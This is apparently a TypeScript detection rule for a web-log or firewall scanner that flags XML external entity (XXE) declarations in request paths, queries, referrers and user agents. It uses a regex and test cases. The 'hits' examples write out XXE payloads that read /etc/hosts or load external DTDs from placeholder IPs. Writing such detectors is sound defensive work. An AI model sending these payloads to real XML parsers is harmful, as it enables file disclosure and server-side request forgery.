import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'xxe/entity',
  title: 'XML document type with entities',
  why: 'Declares an XML entity that stands for a file or an address, so that the parser reads it for the attacker.',
  ja: {
    title: 'XML 外部実体の宣言（XXE）',
    why: 'ファイルや URL を指す XML 実体を宣言し、XML パーサーに読み込ませようとしています。',
  },
  severity: 'medium',
  stage: 'inject',
  attack: ['T1190'],
  cwe: [611],
  refs: [
    'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
    'https://portswigger.net/web-security/xxe',
  ],

  where: ['path', 'query', 'referrer', 'agent'],
  needs: [['<!doctype', '<!entity', '<!element', '<!attlist']],
  match:
    /<!doctype\b[^>]{0,200}(?:<!entity\b|\bsystem\s{1,5}["'](?!about:))|<!entity\s{1,10}(?:%\s{1,5})?\w{1,40}\s{1,10}(?:system\b|public\b|["'])|<!doctype\s{1,10}[\w:.-]{1,60}\s{0,10}\[|<!doctype\s{1,10}[\w:.-]{1,60}\s{1,10}public\s{1,10}["'][^"']{0,120}["']\s{1,10}["'](?!https?:\/\/www\.w3\.org\/)|<!(?:element|attlist)\s{1,10}[%\w:.-]{1,60}\s/i,

  hits: [
    'GET /api?xml=%3C!DOCTYPE+a+[%3C!ENTITY+x+SYSTEM+%22file:///etc/hosts%22%3E]%3E HTTP/1.1',
    'GET /api?xml=%3C!DOCTYPE+a+SYSTEM+%22http://192.0.2.1/a.dtd%22%3E HTTP/1.1',
    'GET /api?xml=%2BADwAIQ-DOCTYPE+a+[%2BADw!ELEMENT+a+ANY HTTP/1.1',
    'GET /api?xml=%3C!ENTITY+%25+p+SYSTEM+%22http://192.0.2.1/%22%3E HTTP/1.1',
    'GET /api?xml=%3C!ENTITY+%25+p+public+%22http://192.0.2.1/%22%3E HTTP/1.1',
    'GET /api?xml=%3C!ENTITY+%25+p+"+%22http://192.0.2.1/%22%3E HTTP/1.1',
    'GET /<!DOCTYPE%20a%20[<!ENTITY%20x%20SYSTEM%20"file:/etc/hosts">]> HTTP/1.1',
    {
      request: 'GET / HTTP/1.1',
      referrer:
        'https://www.example.com/api?xml=%3C!DOCTYPE+a+[%3C!ENTITY+x+SYSTEM+%22file:///etc/hosts%22%3E]%3E',
    },
    { request: 'GET / HTTP/1.1', agent: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:/etc/hosts">]>' },
    ...each(
      'GET /a?x={} HTTP/1.1',
      `<!DOCTYPE+a+[ <!DOCTYPE+a+PUBLIC+"a"+"http://203.0.113.9/a.dtd"> <!ELEMENT+a+ANY>
    <!ATTLIST+a+b>`,
    ),
  ],
  misses: [
    'GET /api?html=%3C!DOCTYPE+html%3E HTTP/1.1',
    'GET /search?q=doctype+system+entity HTTP/1.1',
    'GET /api?html=%3C!DOCTYPE+html+SYSTEM+%22about:legacy-compat%22%3E HTTP/1.1',
    {
      message:
        'upstream timed out, request: "GET /api?xml=%3C!DOCTYPE+a+[%3C!ENTITY+x+SYSTEM+%22file:///etc/hosts%22%3E]%3E HTTP/1.1"',
    },
  ],
})
